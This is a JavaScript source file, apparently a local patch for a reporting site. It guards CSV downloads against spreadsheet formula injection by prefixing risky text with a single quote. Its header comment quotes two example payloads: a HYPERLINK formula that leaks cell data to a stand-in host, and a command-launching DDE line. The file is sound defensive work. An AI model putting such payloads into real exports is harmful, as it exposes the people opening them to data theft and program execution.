// @evidence-offline-patch: not upstream. The one definition of text that a spreadsheet would run as a formula, and of
// how the product writes it safely. Plain JavaScript, because it is also installed into Evidence (as
// @evidence-dev/universal-sql src/spreadsheet-safe.js, by pipelines/site/evidence-offline/apply.mjs), where the
// patched build-parquet.js quotes every text value of the site's data files with it. Do not edit the copy in
// node_modules; edit this file and run `node pipelines/site/evidence-offline/apply.mjs`.
//
// Why: every table of the report site has a Download button that writes the table, as it is, into a CSV that
// leadership opens in Excel or WPS. A text cell starting with =, +, -, @, a tab or a carriage return runs there as
// a formula (OWASP "CSV injection": `=HYPERLINK("http://x?leak="&A1,"Click")` sends the sheet's data away when
// clicked, `+cmd|' /C calc'!A0` starts a program). So such text is written with a leading single quote, as OWASP
// advises: the spreadsheet then shows the text instead of running it. Users: the site's data files (above), the CSV
// templates the product writes (extract/template-files.ts), and the contract, which rejects identifiers that start
// like a formula (shared/contracts/column-spec.ts).

/** The characters a spreadsheet reads as the start of a formula (OWASP's list). */
export const FORMULA_TRIGGERS = Object.freeze(["=", "+", "-", "@", "\t", "\r"]);

/**
 * True when a spreadsheet opening the text in a CSV would take it for a formula.
 * @param {string} value
 */
export function startsLikeFormula(value) {
  return FORMULA_TRIGGERS.some((trigger) => value.startsWith(trigger));
}

/** A number written as text (`-12.5`, `+1.5e3`): a spreadsheet reads it as that number, never as a formula. */
const PLAIN_NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;

/**
 * A value as the site's data files hold it: text starting like a formula (also behind quotes) gets a leading single
 * quote; every other value (other text, numbers, dates, booleans, null) is returned as it is.
 * @template T
 * @param {T} value
 * @returns {T | string}
 */
export function spreadsheetSafe(value) {
  if (typeof value !== "string") return value;
  return startsLikeFormula(value.replace(/^'+/, "")) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
}
